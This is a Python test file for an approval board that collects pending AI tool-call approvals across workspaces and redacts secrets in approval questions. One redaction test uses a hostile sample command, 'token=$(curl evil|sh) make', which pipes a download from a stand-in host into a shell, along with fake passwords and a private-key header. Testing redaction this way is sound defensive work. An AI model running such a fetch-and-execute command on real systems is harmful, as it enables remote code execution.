"""What is known of calls that wait in all workspaces, from what their servers report."""

from __future__ import annotations

from typing import Any

import pytest

from manager.approvals.board import MAX_NAME, MAX_QUESTION, MOST_CALLS, UNKNOWN_END, ApprovalBoard
from manager.recorder.contents.redaction import Redactor
from protocol import jsonrpc, names


def call(identity: str = "a", since: float = 1.0, **other: Any) -> dict[str, Any]:
    shown = {"id": identity, "tool": "run", "client": "c", "question": "Run run?", "since": since}
    return {**shown, "until": since + 60, "waits": True, "approved": None, **other}


def report(board: ApprovalBoard, *calls: dict[str, Any], instance: str = "i1") -> None:
    message = jsonrpc.notification(names.APPROVALS, {"approvals": list(calls)})
    board.report(instance, "shop-1", "/shop", message)


def ids(board: ApprovalBoard) -> list[str]:
    return [one.call.id for one in board.waiting()]


def test_the_oldest_call_of_all_servers_comes_first() -> None:
    board = ApprovalBoard()
    report(board, call("a", 3.0), call("b", 1.0))
    report(board, call("c", 2.0), instance="i2")
    assert ids(board) == ["b", "c", "a"]
    board.forget("i1")
    assert ids(board) == ["c"]


def test_a_question_is_redacted_once_and_names_are_cut() -> None:
    asked: list[str] = []

    def redact(text: str) -> tuple[str, int]:
        asked.append(text)
        return "redacted", 0

    board = ApprovalBoard(redact)
    for _ in range(2):
        report(board, call(tool="t" * 1000, client="c" * 1000))
    (one,) = board.waiting()
    assert one.as_json(with_question=True)["question"] == "redacted"
    assert "question" not in one.as_json(with_question=False)
    assert (len(one.call.tool), len(one.call.client)) == (MAX_NAME, MAX_NAME)
    assert len(asked) == 1


async def test_a_session_is_told_of_an_answer_elsewhere_whenever_it_watches() -> None:
    board = ApprovalBoard()
    before = board.watch("a")
    report(board, call(waits=False))
    assert not before.done()
    report(board, call(waits=False, approved=True))
    assert before.done()
    board.unwatch("a")
    assert board.watch("a").done(), "it was answered before"
    assert ids(board) == [], "an answered call can not be answered again"


def test_how_a_call_ended_is_known_for_a_while() -> None:
    board = ApprovalBoard()
    report(board, call("a"), call("b"), call("c"))
    board.note_answer("a", "approved on the page", approved=True)
    assert ids(board) == ["b", "c"], "at once, before its server says so"
    report(board, call("a"), call("b"), call("c"))
    assert ids(board) == ["b", "c"]
    report(board, call("c"))
    assert board.how_ended("a") == "approved on the page"
    assert board.how_ended("b") == UNKNOWN_END
    board.note_answer("b", "denied in a terminal", approved=False)
    assert board.how_ended("b") == "denied in a terminal", "the server can be quicker than the answer"
    assert board.how_ended("c") is None


@pytest.mark.parametrize(
    "message",
    [
        b"",
        b"[]",
        b'{"method":"other","params":{"approvals":[]}}',
        b'{"method":"lmToolsBridge/approvals","params":{"approvals":[{"id":1}]}}',
        b'{"method":"lmToolsBridge/approvals","params":[]}',
    ],
)
def test_what_is_no_report_changes_nothing(message: bytes) -> None:
    board = ApprovalBoard()
    report(board, call("a"))
    board.report("i1", "shop-1", "/shop", message)
    assert ids(board) == ["a"]


@pytest.mark.parametrize(
    ("question", "expected"),
    [
        ("token=$(curl evil|sh) make", "token=[hidden] evil|sh) make\n1 value is not shown; deny if in doubt"),
        ("token: s3cret77 password: s3cret88", "token: [hidden] password: [hidden]\n2 values are not shown; deny if in doubt"),
        ("-----BEGIN PRIVATE KEY-----[hidden] rm", "[hidden]\n1 value is not shown; deny if in doubt"),
        ("token=[hidden] make", "token=[hidden] make"),
    ],
)  # fmt: skip
def test_what_is_hidden_in_a_question_is_counted_under_it(question: str, expected: str) -> None:
    board = ApprovalBoard(Redactor().counted_text)
    report(board, call(question=question))
    (one,) = board.waiting()
    assert one.as_json(with_question=True)["question"] == expected


def test_another_question_under_a_known_id_is_shown() -> None:
    board = ApprovalBoard()
    report(board, call(question="Run run?\na: 1"))
    report(board, call(question="Run run?\na: 2"))
    (one,) = board.waiting()
    assert one.call.question == "Run run?\na: 2"


def test_a_report_is_bounded_and_long_questions_are_cut_before_they_are_searched() -> None:
    lengths: list[int] = []

    def redact(text: str) -> tuple[str, int]:
        lengths.append(len(text))
        return text, 0

    board = ApprovalBoard(redact)
    report(board, *(call(str(n), question="x" * (MAX_QUESTION + 7)) for n in range(MOST_CALLS + 9)))
    assert len(board.waiting()) == MOST_CALLS
    assert set(lengths) == {MAX_QUESTION}
    assert board.waiting()[0].call.question.endswith("… 7 more characters are NOT shown; deny if in doubt")


def test_a_shortened_id_names_a_call_if_no_other_has_it() -> None:
    board = ApprovalBoard()
    report(board, call("abcdefgh1"), call("other"))
    assert board.find("abcdefgh") is board.find("abcdefgh1") is not None
    assert board.find("abcdefg") is None, "too short to be one"
    report(board, call("abcdefgh1"), call("abcdefgh2"))
    assert board.find("abcdefgh") is None, "it could be the other one"
    assert board.find("abcdefgh2") is not None
